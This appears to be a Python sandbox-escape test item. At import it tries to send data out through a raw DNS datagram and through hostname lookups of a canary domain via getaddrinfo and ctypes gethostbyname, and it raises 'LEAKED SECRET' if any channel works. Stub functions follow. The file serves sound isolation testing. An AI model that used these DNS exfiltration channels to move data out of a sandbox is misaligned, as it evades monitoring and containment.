# /// attack
# tries = "Carries words out by name look-ups and datagrams."
# gain = "harm"
# open_at = ["L0"]
# plain = "secret"
# ///
import ctypes
import socket

told = []
try:
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    told.append("datagram socket")
    sender.setblocking(False)
    sender.sendto(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01", ("127.0.0.1", 53))
    told.append("sent")
except OSError:
    pass
for ask in (socket.if_nameindex, lambda: socket.getaddrinfo("words.canary.invalid", 80)):
    try:
        told.append(ask())
    except OSError:
        pass
if ctypes.CDLL(None).gethostbyname(b"words.canary.invalid"):
    told.append("gethostbyname")
if told:
    raise RuntimeError("LEAKED SECRET-asked " + repr(told))


def double(x):
    return None


class Box:
    def put(self, x):
        pass

    def take(self):
        return None


def apply(f, x):
    return None
